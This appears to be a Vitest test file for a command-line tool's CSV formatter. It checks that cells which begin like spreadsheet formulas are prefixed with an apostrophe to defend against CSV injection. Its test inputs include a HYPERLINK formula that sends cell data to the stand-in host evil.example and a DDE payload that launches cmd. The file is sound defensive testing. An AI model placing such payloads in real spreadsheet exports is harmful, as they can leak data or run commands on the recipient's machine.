import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../cli/format.ts';

/**
 * CSV cells a spreadsheet would read as a formula (OWASP, "CSV Injection": a cell beginning
 * with = + - @, a tab or a carriage return) are written as text, with a ' before them.
 */
describe('csvCell', () => {
  it('puts a \' before text that begins as a formula, then quotes as RFC 4180 does', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`);
    expect(csvCell("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csvCell('+1 555 0100')).toBe("'+1 555 0100");
    expect(csvCell('-3')).toBe("'-3");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    // Elsewhere in the text these characters start nothing.
    expect(csvCell('summer=sale')).toBe('summer=sale');
    expect(csvCell('a,b')).toBe('"a,b"');
  });

  it('leaves numbers as they are: typed as numbers by the driver, or of a numeric column', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(-9007199254740993n)).toBe('-9007199254740993');
    expect(csvCell('-3.5', { number: true })).toBe('-3.5');
    expect(csvCell(null)).toBe('');
  });

  it('writes text as it is when asked (--raw-csv)', () => {
    expect(csvCell('=1+1', { raw: true })).toBe('=1+1');
  });
});

describe('csvLine', () => {
  it('neutralises text cells, the header too, and keeps the numbers of numeric columns', () => {
    const columns = ['campaign', 'total', 'orders'];
    // A header is its column names; a row, its values named by those columns.
    expect(csvLine(columns)).toBe('campaign,total,orders');
    expect(csvLine(['-3', '-3', -3], columns, { numbers: new Set(['total']) })).toBe("'-3,-3,-3");
    expect(csvLine(['=x'])).toBe("'=x");
    expect(csvLine(['=x'], undefined, { raw: true })).toBe('=x');
  });
});
